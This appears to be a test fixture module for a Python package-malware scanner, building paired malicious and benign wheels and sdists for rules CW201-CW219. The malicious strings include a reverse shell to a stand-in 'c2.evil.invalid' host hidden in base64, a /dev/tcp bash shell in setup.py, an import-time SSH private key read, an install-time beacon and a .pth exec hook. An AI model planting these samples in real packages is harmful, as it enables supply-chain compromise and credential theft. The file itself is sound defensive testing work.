"""Paired fixtures for the Python code rules (CW201-CW219), built in code.

`FIXTURES[rule_id] = (malicious_builder, benign_builder)`: each builder writes one wheel or
sdist under the directory it is given and returns its path. The malicious one must raise the
rule at its block-worthy severity where the rule has one; the benign one must not raise it.
Network targets are `.invalid` names or loopback only.
"""

from __future__ import annotations

import base64
import importlib.util
from collections.abc import Callable
from pathlib import Path

from support import attack_shapes as shapes
from support.packages import make_sdist, make_wheel

Builder = Callable[[Path], Path]


def _wheel(name: str, files: dict[str, str | bytes], **kw: object) -> Builder:
    def build(directory: Path) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        return make_wheel(directory, name, "1.0", files, **kw)  # type: ignore[arg-type]

    return build


def _sdist(name: str, files: dict[str, str | bytes]) -> Builder:
    def build(directory: Path) -> Path:
        directory.mkdir(parents=True, exist_ok=True)
        return make_sdist(directory, name, "1.0", files)

    return build


HTTP_LIB = """\
import os
import requests


def get_netrc_auth(url):
    path = os.path.expanduser("~/.netrc")
    with open(path) as fh:
        return fh.read()


def send(url, data):
    return requests.post(url, data=data, auth=get_netrc_auth(url))
"""

SPAWN_HELPER = """\
import subprocess, sys


def check_plugin(code):
    return subprocess.run([sys.executable, "-c", code], capture_output=True, start_new_session=True)
"""

COMPLETION = """\
import os


def install_completion():
    with open(os.path.expanduser("~/.bashrc"), "a") as fh:
        fh.write("eval \\"$(_TOOL_COMPLETE=bash_source tool)\\"\\n")
"""

SSH_READ_AT_IMPORT = """\
import os
KEY = open(os.path.expanduser("~/.ssh/id_rsa")).read()
"""

SSH_CONFIG_LIB = """\
import os


def load_config():
    return open(os.path.expanduser("~/.ssh/config")).read()
"""

SETUP_PING = """\
import requests
from setuptools import setup
requests.get("https://ping.deps.invalid/beacon")
setup(name="pingme", version="1.0")
"""

NODE_AT_IMPORT = """\
import os, subprocess
subprocess.Popen(["node", os.path.join(os.path.dirname(__file__), "bundle.js")])
"""

NODE_ON_CALL = """\
import subprocess


def build_assets():
    subprocess.run(["node", "build.js"], check=True)
"""

PYARMOR = """\
from pytransform import pyarmor_runtime
pyarmor_runtime()
__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')
"""

_HIDDEN_CODE = (
    b"import socket, subprocess\n"
    b's = socket.create_connection(("c2.evil.invalid", 443))\n'
    b'subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n'
)
HIDDEN = f'BLOB = "{base64.b64encode(_HIDDEN_CODE).decode()}"\n'

IMAGE = f"""\
ICON = "{base64.b64encode(bytes(range(256)) * 2).decode()}"
"""

REVERSE_SHELL = """\
import os
from setuptools import setup
os.system("bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")
setup(name="rs", version="1.0")
"""

SOCKET_TOOL = """\
import socket


def probe(host, port):
    with socket.create_connection((host, port), timeout=1):
        return True
"""

SETUP_CMDCLASS = """\
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)


setup(name="hooked", version="1.0", cmdclass={"install": PostInstall})
"""

SETUP_PLAIN = 'from setuptools import setup\nsetup(name="plain", version="1.0")\n'

PYC = importlib.util.MAGIC_NUMBER + b"\x00" * 12 + b"\xe3" + b"\x00" * 40 + b"urlopen\x00socket"


def _pth_dynamic(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    line = "import os; exec(os.environ.get('BOOT_CODE', ''))\n"
    return make_wheel(directory, "bootx", "1.0", {"bootx/__init__.py": "", "bootx.pth": line})


def _pth_literal(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    line = "import sys; exec('import os\\nif os.getenv(\"COVERAGE_PROCESS_START\"):\\n import coverage')\n"
    return make_wheel(directory, "bootx", "1.0", {"bootx/__init__.py": "", "a1_coverage.pth": line})


FIXTURES: dict[str, tuple[Builder, Builder]] = {
    "CW201": (shapes.litellm_1_82_7, shapes.litellm_clean),
    "CW202": (
        shapes.lightning_runtime,
        _wheel("dl", {"dl/__init__.py": "", "dl/fetch.py": shapes.LIGHTNING_START.replace("\nmain()\n", "\n")}),
    ),
    "CW203": (shapes.mrmustard_injected, _wheel("httplib", {"httplib/__init__.py": HTTP_LIB})),
    "CW204": (shapes.litellm_1_82_8, _wheel("spawner", {"spawner/__init__.py": SPAWN_HELPER})),
    "CW205": (shapes.mrmustard_injected, _wheel("tool", {"tool/__init__.py": COMPLETION})),
    "CW206": (
        _wheel("keyed", {"keyed/__init__.py": SSH_READ_AT_IMPORT}),
        _wheel("keyed", {"keyed/__init__.py": SSH_CONFIG_LIB}),
    ),
    "CW207": (_sdist("pingme", {"setup.py": SETUP_PING}), _wheel("httplib", {"httplib/__init__.py": HTTP_LIB})),
    "CW208": (shapes.thread_system, shapes.thread_clean),
    "CW209": (_wheel("jsrt", {"jsrt/__init__.py": NODE_AT_IMPORT}), _wheel("jsrt", {"jsrt/__init__.py": NODE_ON_CALL})),
    "CW210": (
        _wheel("old", {"old/__init__.py": 'print "hello"\n'}),
        _wheel("old", {"old/__init__.py": 'print("hello")\n'}),
    ),
    "CW211": (
        _wheel("enc", {"enc/__init__.py": b"# coding: unicode_escape\nx = 1 #\\u000aimport os\n"}),
        _wheel("enc", {"enc/__init__.py": b"# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n"}),
    ),
    "CW212": (
        _wheel("compiled", {"compiled/__init__.pyc": PYC}),
        _wheel("compiled", {"compiled/__init__.py": "", "compiled/__pycache__/__init__.cpython-311.pyc": PYC}),
    ),
    "CW213": (_wheel("shadow", {"json.py": "x = 1\n"}), _wheel("shadow", {"jsonutils.py": "x = 1\n"})),
    "CW214": (
        _wheel("hook", {"sitecustomize.py": "import sys\n"}),
        _wheel("hook", {"hook/customize.py": "import sys\n"}),
    ),
    "CW215": (
        _wheel("armored", {"armored/__init__.py": PYARMOR}),
        _wheel("armored", {"armored/__init__.py": "x = 1\n"}),
    ),
    "CW216": (_sdist("hooked", {"setup.py": SETUP_CMDCLASS}), _sdist("plain", {"setup.py": SETUP_PLAIN})),
    "CW217": (_pth_dynamic, _pth_literal),
    "CW218": (_wheel("blob", {"blob/__init__.py": HIDDEN}), _wheel("blob", {"blob/__init__.py": IMAGE})),
    "CW219": (_sdist("rs", {"setup.py": REVERSE_SHELL}), _wheel("probe", {"probe/__init__.py": SOCKET_TOOL})),
}
